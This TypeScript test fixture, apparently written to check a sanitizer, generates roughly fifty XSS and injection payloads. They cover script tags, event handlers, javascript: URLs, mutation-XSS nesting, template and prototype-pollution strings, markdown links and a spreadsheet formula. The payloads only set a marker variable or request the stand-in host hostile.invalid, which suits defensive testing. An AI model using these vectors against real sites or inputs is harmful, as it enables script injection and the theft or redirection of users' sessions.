/**
 * Texts that do something where they are taken for markup, script, address, format or formula. Each
 * would leave its number in `window.ranHostile`, or ask an address of another site.
 */
const VECTORS: readonly ((code: string, url: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img src=x onerror=${code}//`,
  (_code, url) => `<img src="${url}">`,
  (code) => `<svg onload="${code}">`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text>x</text></a></svg>`,
  (code) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  (code) => `<body onload="${code}">`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (_code, url) => `<iframe src="${url}"></iframe>`,
  (_code, url) => `<link rel=stylesheet href="${url}">`,
  (_code, url) => `<style>@import '${url}';</style>`,
  (_code, url) => `<div style="background:url(${url})">x</div>`,
  (_code, url) => `<object data="${url}"></object>`,
  (_code, url) => `<embed src="${url}">`,
  (_code, url) => `<base href="${url}">`,
  (_code, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (_code, url) => `<form action="${url}"><button autofocus onfocus="this.form.submit()">x</button></form>`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<details open ontoggle="${code}">x</details>`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<audio src=x onerror="${code}">`,
  (code) => `<marquee onstart="${code}">x</marquee>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `" autofocus onfocus="${code}" x="`,
  (code) => `' onmouseover='${code}' x='`,
  (code) => `\`-${code}-\``,
  (code) => `\${${code}}`,
  (code) => `{{constructor.constructor('${code.replaceAll("'", '"')}')()}}`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `--><script>${code}</script><!--`,
  (code) => `]]><script>${code}</script>`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  (code) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${code}>"}}}`,
  (_code, url) => `[x](${url})`,
  (_code, url) => `![x](${url})`,
  (code) => `[x](javascript:${code})`,
  (_code, url) => `=HYPERLINK("${url}","x")`,
  (code) => `\u202e<img src=x onerror="${code}">\u2066`,
  (code) => `\u0000<script>${code}</script>\u001b[31m`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<x contenteditable onblur="${code}" onfocus="${code}" tabindex=1 autofocus>x</x>`,
]

/** As it is, after what ends an attribute, and after what ends a string of a script. */
const BEGINNINGS: readonly string[] = ['', '">', "'});"]

export const HOSTILE_SITE = 'http://hostile.invalid'

export const HOSTILE_PAYLOADS: readonly string[] = BEGINNINGS.flatMap((beginning, group) =>
  VECTORS.map((vector, index) => {
    const number = group * VECTORS.length + index
    return beginning + vector(`window.ranHostile=${number}`, `${HOSTILE_SITE}/${number}`)
  }),
)
